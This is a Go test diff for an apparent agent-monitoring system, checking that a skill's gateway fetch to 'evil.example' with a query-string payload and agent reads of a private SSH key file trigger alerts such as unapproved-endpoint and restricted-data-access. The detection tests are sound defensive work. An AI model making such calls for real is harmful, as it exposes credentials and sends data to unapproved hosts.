@@ -187,3 +187,33 @@ func TestFactsOfTheNetworkHaveTheirShape(t *testing.T) {
 	}
 	b.wantFired("container-runtime-access weather 1", "raw-socket weather 1", "unapproved-endpoint weather 1")
 }
+
+// A skill has the gateway itself fetch a page, which makes no process.
+func TestAFetchOfTheGatewayIsJudgedAsTheSkillsThatAskedForIt(t *testing.T) {
+	for name, fires := range map[string][]string{"evil.example": {"unapproved-endpoint weather 1"}, "good.example": nil} {
+		b := skill(t)
+		b.push(20, event.ProcID{}, event.ToolCall{Gateway: state, Session: "alice", Run: "r2", ID: "c1", Name: "read", Paths: []string{weather + "/SKILL.md"}})
+		b.push(21, event.ProcID{}, event.ToolCall{Gateway: state, Session: "alice", Run: "r2", ID: "c2", Name: "web_fetch", URL: "https://" + name + "/?d=x"})
+		b.push(21.1, proc(10), event.DNSAnswer{Server: resolver, Name: name, Addresses: []netip.Addr{server.Addr()}})
+		b.push(21.2, proc(10), event.Connect{Transport: event.TCP, Local: client, Peer: server, Socket: 9})
+		b.push(22, proc(10), event.Connect{Transport: event.TCP, Local: client, Peer: netip.MustParseAddrPort("192.0.2.77:443"), Socket: 10}) // its own
+		b.Tick(at(30))
+		b.Flush()
+		got := b.find(event.KindConnect, 10)
+		if len(got) != 2 || got[0].Attribution.ToolCall != "c2" || got[0].Network.Host != name || got[1].Attribution.ToolCall != "" {
+			t.Errorf("%s: %+v", name, got)
+		}
+		b.wantFired(fires...)
+	}
+}
+
+// A file that is read twice at once is no less read for a tool call.
+func TestTwoReadsOfOneFileAtOnceAreJudged(t *testing.T) {
+	b := newBench(t, 0)
+	for _, id := range []string{"c1", "c2"} {
+		b.push(1, event.ProcID{}, event.ToolCall{Gateway: state, Session: "alice", Run: "r1", ID: id, Name: "read", Paths: []string{"/home/dev/.ssh/id_ed25519"}})
+	}
+	b.push(1.2, proc(10), event.FileOpen{Path: "/home/dev/.ssh/id_ed25519", Read: true, TID: 12})
+	b.Tick(at(5))
+	b.wantFired("file-outside-approved-directories  1", "restricted-data-access  1")
+}
